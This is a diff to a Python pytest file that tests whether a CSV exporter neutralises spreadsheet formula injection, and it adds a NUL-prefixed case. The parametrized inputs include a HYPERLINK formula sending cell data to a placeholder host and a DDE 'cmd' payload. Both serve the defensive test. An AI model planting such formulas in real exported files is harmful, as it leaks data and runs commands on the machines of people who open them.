@@ -335,14 +335,15 @@ def test_export_then_import_restores_every_document(api_env: ApiEnv) -> None:
 
 @pytest.mark.parametrize(
     "title", ['=HYPERLINK("http://example.invalid/?"&A1,"打开")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
-              "\t=1", "\r=1"],
+              "\t=1", "\r=1", "\x00=1"],
 )  # fmt: skip
 def test_export_csv_textCellsCannotBeFormulas_importRestoresTheExactDocument(
     api_env: ApiEnv, title: str
 ) -> None:
     """A department's title or description is never a formula in the CSV an auditor opens in a spreadsheet
-    (OWASP's CSV injection): a cell that would start with = + - @ or a tab or carriage return is exported
-    behind an apostrophe; the document column, which import reads, is the canonical JSON as it was."""
+    (OWASP's CSV injection): a cell that would start with = + - @, a tab, a carriage return or a NUL (which
+    a reader may drop ahead of the formula: ASVS 5.0, V1.2.10) is exported behind an apostrophe; the document
+    column, which import reads, is the canonical JSON as it was."""
     # A title is one line of visible text (no tab or carriage return): a description may still hold them.
     one_line = title.isprintable()
     record = register(
